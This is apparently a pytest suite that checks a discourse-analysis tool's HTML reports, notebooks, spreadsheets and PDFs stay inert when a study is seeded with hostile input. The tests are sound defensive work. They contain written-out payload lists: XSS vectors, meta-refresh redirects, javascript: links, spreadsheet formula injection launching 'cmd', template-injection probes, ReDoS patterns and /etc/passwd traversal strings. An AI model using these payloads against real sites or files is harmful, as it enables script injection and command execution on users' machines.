"""A study made to do harm, in a real browser: no page, notebook or PDF of it makes a request or runs a script of its own."""

import csv
import html
import http.server
import json
import re
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("nbconvert")

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from discourse import read_study, show, validate
from discourse.__main__ import main
from discourse.coding.sheets import passages, sheet, write_sheet
from discourse.corpus.template import new_study
from discourse.pages.export import DiscourseHTML, print_pdf

pytestmark = pytest.mark.slow

ARTICLES = 15  # enough for a page per article, and for each payload in a text


class Server:
    """Something that could be asked, and what it was asked for."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.asked.append(self.path)
                self.send_response(200)
                self.end_headers()
                self.wfile.write(b"document.documentElement.dataset.run = 'remote'")

            def log_message(self, *_: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture(scope="module")
def server() -> Iterator[Server]:
    found = Server()
    yield found
    found.server.shutdown()


def payloads(url: str) -> list[str]:
    """Ways to make a page ask for something or run something; each marks the page that it runs in."""
    run = "document.documentElement.dataset.run=1"
    return [
        f"<script>{run}</script>",
        f"<script src={url}/script></script>",
        f"<img src=x onerror={run}>",
        f"<img src={url}/img>",
        f'"><img src={url}/quote onerror={run}>',
        f"' onmouseover='{run}' style='background:url({url}/attr)' x='",
        f"<svg onload={run}><image href={url}/svg></svg>",
        f"<iframe srcdoc='<script>parent.{run}</script>'></iframe><iframe src={url}/frame></iframe>",
        f"</style><style>@import '{url}/css'; *{{background:url({url}/bg)}}</style>",
        f"</title></script><script>{run}</script>",
        f"--><link rel=stylesheet href={url}/link><link rel=prefetch href={url}/prefetch>",
        f"<meta http-equiv=refresh content='0;url={url}/refresh'>",
        f"<svg><style><meta http-equiv=refresh content='0;url={url}/svg-style'></style></svg>",
        f"<!--><meta http-equiv=refresh content='0;url={url}/comment'>-->",
        f"<head><meta http-equiv=refresh content='0;url={url}/head'></head>",
        f"<noscript><p title=\"</noscript><meta http-equiv=refresh content='0;url={url}/noscript'>\">",
        f"<base href={url}/base/><object data={url}/object></object><embed src={url}/embed>",
        f"<video poster={url}/poster src={url}/video autoplay></video><audio src={url}/audio autoplay></audio>",
        f"<form action={url}/form><button autofocus onfocus={run}></form>",
        f"<details open ontoggle={run}>x</details>",
        f"$\\href{{{url}/tex}}{{x}}$ ![x]({url}/markdown) [x](javascript:{run})",
        f"<a href=javascript:{run} ping={url}/ping>x</a>",
        "{{ ''.__class__.__mro__ }} {% raw %} ${7*7} <%= 7*7 %>",
    ]


def contexts(url: str) -> list[str]:
    """What is harmless alone, and does harm within a script, a template, a table, a pattern or a line of other texts."""
    run = "document.documentElement.dataset.run=1"
    return [
        "\u202eقلب \u2066عزل \u202d\u061c",
        "{{ 7*191 }} {% if true %}{{ 7*191 }}{% endif %} {# x #} ${7*191} #{7*191}",
        f"</script><!--<script>{run}</script>",
        f"<!-- <script>{run}//-->",
        f"\u2028{run}\u2029//';{run};//`${{{run}}}`",
        f"<svg><script>{run}</script><foreignObject><body onload={run}><iframe src={url}/foreign></foreignObject></svg>",
        "<b><table><td><div dir=ltr style='position:fixed",
        f"data:text/html,<script>{run}</script>",
        f'=HYPERLINK("{url}/formula","x")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "__proto__",
        "constructor",
        f"[x]({url}/md) ![x]({url}/image) <{url}/auto> [y][z]\u00a0[z]: javascript:{run}",
        f"&lt;script&gt;{run}&lt;/script&gt;",
        f"\\u003cscript\\u003e{run}\\u003c/script\\u003e",
        "((((a+)+)+)+)+$ [[[ (?P<x> \\g<0> \\1 .*.*.*.*.*x",
        "%s %n {0.__class__} {document} %(title)s $title",
        f"red;}} *{{background:url({url}/colour)}} /*",
        f"]]><x xmlns='http://www.w3.org/1999/xhtml'><script>{run}</script>",
        "../../../etc/passwd \\\\server\\share C:\\con file:///etc/passwd",
    ]


def hostile_study(folder: Path, evil: list[str]) -> Path:
    """A study with a payload wherever its files take a text."""
    study = new_study(folder)
    pick = iter(evil * 20)

    def toml() -> str:
        return json.dumps(next(pick), ensure_ascii=False)

    def cell(text: str) -> str:
        return '"' + text.replace('"', '""') + '"'

    def field(match: re.Match[str]) -> str:
        return f"{match[1]} = {toml()}"

    for name, keys in (
        ("codebook.toml", r"^(label\.\w+|definition|include|exclude|example|counterexample) = .*"),
        ("study.toml", r"^(title\.\w+|question\.\w+|ar|en) = .*"),
    ):
        text = (study / name).read_text(encoding="utf-8")
        (study / name).write_text(re.sub(keys, field, text, flags=re.M), encoding="utf-8")
    with (study / "study.toml").open("a", encoding="utf-8") as handle:
        handle.write(f"\n[events.vote]\ndate = 2020-04-03\nlabel = {toml()}\n")
    actors = (study / "actors.csv").read_text(encoding="utf-8").splitlines()
    rows = [actors[0]]
    for line in actors[1:]:
        id, name, _, aliases, camp, kind, _ = line.split(",")
        rows.append(f"{id},{name},{cell(next(pick))},{aliases},{camp},{kind},{cell(next(pick))}")
    (study / "actors.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    rows = [(study / "articles.csv").read_text(encoding="utf-8").splitlines()[0] + ",desk,author"]
    for path in (study / "codings").glob("*.csv"):
        path.unlink()
    (study / "attributions.json").unlink(missing_ok=True)
    for k in range(ARTICLES):
        text = (
            f"عنوان {evil[k % len(evil)]}\n\nقالت سعاد حداد إن المحطة الجديدة مكسب {evil[(k + ARTICLES) % len(evil)]} للحي.\n\n"
            f"وقال رامي عيد: «الافتتاح مجرد دعاية {evil[(k + 2 * ARTICLES) % len(evil)]}».\n"
        )
        (study / "articles" / f"evil-{k}.txt").write_text(text, encoding="utf-8")
        cells = [cell(next(pick)), cell(next(pick)), f"2020-0{1 + k % 4}-01", cell(f"javascript:{next(pick)}"), ""]
        rows.append(",".join([f"evil-{k}", f"articles/evil-{k}.txt", *cells, cell(next(pick)), cell(next(pick))]))
    (study / "articles.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    read = read_study(study)
    table = sheet(read, passages(read)).astype(object)
    table.loc[:, "frame: spin"] = "1"
    table["note"] = [next(pick) for _ in range(len(table))]
    path = write_sheet(table, folder.parent / "sheet.csv")
    assert main(["sheet", str(study), str(path), "--coder", "second"]) == 0
    return study


@pytest.fixture(scope="module")
def made(server: Server, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with the report and the page of validity of the hostile study, made from inside that study's folder."""
    from discourse.pages.report import report

    room = tmp_path_factory.mktemp("hostile")
    study = hostile_study(room / "study", payloads(server.url) + contexts(server.url))
    report(study, room / "out", lang="en")
    return room


def evaluated(tab: Any, script: str, *args: Any) -> Any:
    """What a script gives on a page; asked again where the page left for another one meanwhile."""
    from playwright.sync_api import Error

    for _ in range(5):
        try:
            return tab.evaluate(script, *args)
        except Error as error:
            if "context was destroyed" not in str(error):
                raise
            tab.wait_for_load_state()
    return None  # it never stays, as each of its loads says


def opened(chromium: Any, server: Server, *, path: Path | None = None, page: str = "") -> list[str]:
    """What a page asked for and whether anything in it ran: it is read, moved over, clicked into and printed."""
    server.asked.clear()
    context = chromium.new_context()
    tab = context.new_page()
    asked: list[str] = []
    tab.on("dialog", lambda d: (asked.append(f"dialog {d.message}"), d.dismiss()))
    if path is not None:
        tab.goto(path.as_uri())
    else:
        tab.set_content(page, wait_until="load")
    start = tab.url
    tab.on("load", lambda page: asked.append(f"the page was left for {page.url}"))
    tab.wait_for_timeout(300)
    for event in ("mouseover", "focus", "click", "toggle", "error", "load"):
        # what a reader may do to any element; links are not followed
        evaluated(
            tab,
            "kind => document.querySelectorAll('body *').forEach(e => e.tagName == 'A' && !e.href.startsWith('javascript:')"
            " ? 0 : e.dispatchEvent(new Event(kind, {bubbles: false})))",
            event,
        )
    tab.wait_for_timeout(100)
    # what reached the server: a request that the page's policy stops has an event as well
    found = asked + [path for path in server.asked if path != "/favicon.ico"]
    if evaluated(tab, "document.documentElement.dataset.run || ''"):
        found.append("a script of the study ran")
    if tab.url != start:
        found.append(f"the page went to {tab.url}")
    # A table that the page has in itself is saved and never shown: a link to plain CSV, which a browser does not run.
    saved = "e.matches('a[download]') && /^data:text\\/csv;base64,[A-Za-z0-9+\\/=]*$/.test(e.getAttribute('href'))"
    found += [
        f"link {href}"
        for href in evaluated(
            tab, f"[...document.querySelectorAll('[href],[src]')].map(e => {saved} ? '' : e.getAttribute('href') || '')"
        )
        or []
        if re.match(r"(?!https?:|mailto:)[a-z][a-z0-9+.-]*:", re.sub(r"[\s\x00-\x1f]", "", href.lower()))
    ]
    context.close()
    return found


def test_the_probe_notices_requests_and_scripts(chromium: Any, server: Server) -> None:
    """On a page without any guard each payload that needs no reader is noticed."""
    noticed = [bool(opened(chromium, server, page=f"<html><body>{p}</body></html>")) for p in payloads(server.url)]
    assert sum(noticed) >= len(noticed) - 3, noticed


def test_no_page_of_a_report_asks_or_runs_anything(made: Path, chromium: Any, server: Server) -> None:
    pages = sorted((made / "out").rglob("*.html"))
    assert len(pages) > ARTICLES
    assert len(payloads("") + contexts("")) <= 3 * ARTICLES
    assert "&lt;script" in (made / "out" / "report.html").read_text(encoding="utf-8")
    assert {str(p.relative_to(made)): f for p in pages if (f := opened(chromium, server, path=p))} == {}


def test_no_template_is_filled_from_a_study(made: Path) -> None:
    files = [p for p in (made / "out").rglob("*") if p.suffix in (".html", ".ipynb", ".json", ".md")]
    read = {p.name: p.read_text(encoding="utf-8") for p in files}
    assert any("{{ 7*191 }}" in text for text in read.values())
    assert [name for name, text in read.items() if re.search(r"(?<![\d.])1337(?!\d)", text)] == []


def test_no_cell_of_a_table_is_a_formula(made: Path) -> None:
    """Of the report's tables, of sheets as CSV and as a workbook, and of the study as a workbook."""
    openpyxl = pytest.importorskip("openpyxl")
    study = made / "study"
    assert main(["sample", str(study), "--out", str(made / "blind.csv")]) == 0
    assert main(["sample", str(study), "--out", str(made / "blind.xlsx")]) == 0
    assert main(["attribute", str(study / "articles"), "--out", str(made / "records.csv")]) == 0
    tables = [*(made / "out").rglob("*.csv"), *made.glob("*.csv"), *(study / "codings").glob("*.csv")]
    assert len(tables) > 10
    formulas = set()
    for path in tables:
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                formulas |= {
                    (path.name, c) for c in row if c[:1] in "=+-@\t\r" and not re.fullmatch(r"|-inf|-?[\d.e-]+", c)
                }
    for path in made.glob("*.xlsx"):
        for page in openpyxl.load_workbook(path):
            formulas |= {(path.name, c.value) for row in page.iter_rows() for c in row if c.data_type == "f"}
    assert formulas == set()


def test_a_mark_that_turns_the_direction_ends_with_its_own_text(made: Path, chromium: Any) -> None:
    """A name with U+202E does not turn what is written after it on the same line."""
    turned = """() => {
        const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT), found = [];
        while (walk.nextNode()) {
            const text = walk.currentNode;
            if (!/[\\u202a\\u202b\\u202d\\u202e]/.test(text.data) || !text.parentElement.getClientRects().length) continue;
            for (let node = text; ; node = node.parentElement) {
                const style = node.nodeType == 1 ? getComputedStyle(node) : null;
                if (style && (/isolate|plaintext/.test(style.unicodeBidi) || !/^inline|contents/.test(style.display))) break;
                const after = node.nextSibling;
                if (after && /[\\p{L}\\p{N}]/u.test(after.textContent) && !/^\\s*[\\n]/.test(after.textContent)) {
                    found.push(node.textContent.slice(0, 40) + " | " + after.textContent.slice(0, 40));
                    break;
                }
            }
        }
        return found;
    }"""
    tab = chromium.new_context().new_page()
    found = {}
    for path in sorted((made / "out").rglob("*.html")):
        tab.goto(path.as_uri())
        if lines := tab.evaluate(turned):
            found[path.name] = lines[:5]
    tab.context.close()
    assert found == {}


def test_the_page_of_validity_asks_and_runs_nothing(made: Path, chromium: Any, server: Server) -> None:
    from discourse.pages.validity import page

    # the command refuses a study whose texts are markup; the function does not
    found = validate(read_study(made / "study"), replicates=20)
    (made / "validity").mkdir()
    page(found, made / "validity", lang="en")
    pages = list((made / "validity").rglob("*.html"))
    assert pages
    for path in pages:
        assert opened(chromium, server, path=path) == []


def test_outputs_of_the_notebooks_are_inert_without_any_policy(made: Path, chromium: Any, server: Server) -> None:
    """JupyterLab puts an output into its own page, which forbids nothing."""
    notebooks = sorted((made / "out" / "notebooks").glob("*.ipynb"))
    assert len(notebooks) >= 5
    for path in notebooks:
        read = nbformat.read(path, as_version=4)
        outputs = [o.get("data", {}) for c in read.cells for o in c.get("outputs", [])]
        markup = "".join("".join(d.get("text/html", "")) for d in outputs)
        assert opened(chromium, server, page=f"<html><body>{markup}</body></html>") == [], path.name
        assert not any("javascript" in kind for d in outputs for kind in d), path.name


def test_a_text_that_is_shown_and_the_explorer_are_inert(made: Path, chromium: Any, server: Server) -> None:
    pytest.importorskip("ipywidgets")
    from discourse.pages.explorer import explore

    for payload in [*payloads(server.url), " ".join(contexts(server.url))]:
        page = str(show(f"عنوان {payload}\n\nقالت الوزيرة إن الجسر {payload} جاهز.\n\n"))
        assert opened(chromium, server, page=f"<html><body>{page}</body></html>") == [], payload
    box = explore(made / "study", lang="en")
    shown: list[str] = []

    def collect(widget: Any) -> None:
        shown.append(str(getattr(widget, "value", "")) if type(widget).__name__ == "HTML" else "")
        for child in getattr(widget, "children", ()):
            collect(child)

    collect(box)
    assert any("&lt;script" in s for s in shown)
    assert opened(chromium, server, page=f"<html><body>{''.join(shown)}</body></html>") == []


def test_any_notebook_is_exported_inert(chromium: Any, server: Server, tmp_path: Path) -> None:
    """Payloads as Markdown, as HTML outputs, as SVG and as scripts: the page of a stranger's notebook."""
    cells = []
    for payload in payloads(server.url) + contexts(server.url):
        data = {"text/html": f"<p>نص</p>{payload}", "text/plain": payload}
        svg = {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{payload}</svg>"}
        script = {"application/javascript": "document.documentElement.dataset.run=1"}
        outputs = [new_output("display_data", data=d) for d in (data, svg, script)]
        cells += [
            new_markdown_cell(f"# عنوان {payload}\n\n{payload}\n\n    {payload}"),
            new_code_cell(payload, outputs=[*outputs, new_output("stream", text=payload)]),
        ]
    page, _ = DiscourseHTML().from_notebook_node(new_notebook(cells=cells, metadata={"title": payloads(server.url)[9]}))
    path = tmp_path / "page.html"
    path.write_text(page, encoding="utf-8")
    assert opened(chromium, server, path=path) == []
    server.asked.clear()
    printed = print_pdf(page)
    assert server.asked == []
    assert b"/JavaScript" not in printed
    assert b"/Launch" not in printed


def test_a_printed_page_asks_for_nothing_even_without_its_policy(chromium: Any, server: Server) -> None:
    server.asked.clear()
    leaving = [p for p in payloads(server.url) if "refresh" in p]
    staying = [p for p in payloads(server.url) if "refresh" not in p]
    for group in (leaving, staying):
        data = print_pdf(f"<html><body>{' '.join(group)}<p>{html.escape(' '.join(group))}</p></body></html>")
        assert data.startswith(b"%PDF")
    assert server.asked == []
